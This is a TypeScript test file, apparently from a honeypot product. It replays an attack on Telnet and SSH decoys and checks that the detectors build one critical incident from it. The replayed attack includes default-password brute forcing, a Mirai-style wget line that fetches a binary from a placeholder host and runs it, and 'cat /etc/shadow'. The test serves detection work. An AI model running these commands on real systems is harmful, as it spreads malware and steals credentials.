/** One attacker at two services of one machine, told by the decoys themselves: a worm over Telnet, then a person over SSH with what the worm found. */
import type { Event, SensorEvent } from '@netsentinel/contracts/event';
import { Incident } from '@netsentinel/contracts/incident';
import { interactionOf } from '@netsentinel/contracts/interaction';
import { playService } from '@netsentinel/decoys/service/session.fixture';
import { SshTelemetry } from '@netsentinel/decoys/ssh/ssh.telemetry';
import { telnetDecoy } from '@netsentinel/decoys/telnet/telnet.decoy';
import { newActorState, rememberBefore } from '@netsentinel/detect/actor-state';
import { createDetectors } from '@netsentinel/detect/detectors';
import { normaliseSensorEvent } from '@netsentinel/normalise/decoy/decoy.parser';
import { expect, it } from 'vitest';
import { foldEvent } from './fold.ts';

const WORM = [
  'enable',
  'system',
  'shell',
  'sh',
  '/bin/busybox ECCHI',
  'cat /proc/mounts; /bin/busybox ECCHI',
  'cd /tmp; cat /bin/echo | head -c 20; /bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI',
  '/bin/busybox wget http://192.0.2.9:80/bins/mirai.x86 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI',
  './dvrHelper telnet.x86; /bin/busybox IHCCE',
];

async function attack(): Promise<SensorEvent[]> {
  const played = playService(telnetDecoy, {
    credentials: { accept: [{ user: 'root', password: 'vizxv' }], anyAfterTries: false, weakPairs: false },
  });
  const { clock, events } = played;
  const client = played.connect({ ip: '::ffff:198.51.100.7', port: 40_000 });
  await client.send(Buffer.from('fffd25fffd26fffc18fffc20fffc23fffc27fffc24', 'hex'));
  await client.send(Buffer.from('fffd03fffc01fffc22fffc1ffffd05fffc21', 'hex'));
  await client.settle(100);
  for (const password of ['xc3511', 'admin', '888888', 'vizxv']) {
    await client.send('root\r\n');
    await client.send(`${password}\r\n`);
    await client.settle(5000);
  }
  for (const line of WORM) {
    await client.send(`${line}\r\n`);
    for (let waits = 0; waits < 12; waits++) await client.settle(250);
  }
  await client.destroy();
  clock.advance(60_000);
  const ssh = new SshTelemetry({
    sessionId: 'ssh-1~m1abcdef~1',
    decoy: 'ssh-1',
    persona: 'debian-12-server',
    clock,
    endpoints: { source: { ip: '::ffff:198.51.100.7', port: 50_000 }, destination: { ip: '203.0.113.9', port: 22 } },
    emit: (event) => events.push(event),
  });
  ssh.connected();
  ssh.identified('SSH-2.0-OpenSSH_9.6');
  ssh.agreed(undefined, undefined);
  ssh.attempted({ user: 'root', method: 'password', password: 'vizxv' }, true);
  ssh.started({ kind: 'shell', environment: {} });
  ssh.command('cat /etc/shadow');
  ssh.disconnected('closed by the client');
  await played.close();
  return events;
}

async function incidentOf(): Promise<{ incident: Incident; moves: Event[] }> {
  const state = newActorState();
  const detectors = createDetectors();
  let incident: Incident | undefined;
  const moves = (await attack()).map((event, at) => {
    const result = normaliseSensorEvent(event, {
      sensor: { id: 'local', type: 'decoy' },
      epoch: 'm1abcdef',
      sequence: at + 1,
      receivedAt: Date.parse(event['@timestamp']),
      sourceVerified: true,
    });
    if (!result.ok) throw new Error(result.error.event.reason);
    incident = foldEvent(incident, result.value, detectors.process(result.value, state), { before: state.before });
    if (incident === undefined) rememberBefore(state, result.value);
    return result.value;
  });
  return { incident: incident!, moves };
}

it('is one incident that tells the whole story', async () => {
  const { incident, moves } = await incidentOf();
  expect(Incident.safeParse(incident).error).toBeUndefined();
  expect(moves.map(interactionOf)).not.toContain('none');
  expect(incident.sessions.map(({ protocol }) => protocol)).toEqual(['telnet', 'ssh']);
  expect(incident.sessions[0]).toMatchObject({ user: 'root', recording: expect.any(String), decoy: 'telnet-1' });
  expect(incident.counts).toMatchObject({ logins: 2, failures: 3 });
  expect(incident.title).toMatch(
    /^Telnet and SSH .* from 198\.51\.100\.7, logged in as root, brought in and ran a file/,
  );
  expect(incident.severity).toBe('critical');
  expect(incident.fingerprints).toContainEqual({
    kind: 'telnet-fingerprint',
    value: 'd37 d38 -24 -32 -35 -39 -36 d3 -1 -34 -31 d5 -33',
  });
  expect(incident.commands.map(({ input }) => input)).toEqual([...WORM, 'cat /etc/shadow']);
  expect(incident.files).toContainEqual(
    expect.objectContaining({ direction: 'download', url: 'http://192.0.2.9:80/bins/mirai.x86' }),
  );
});
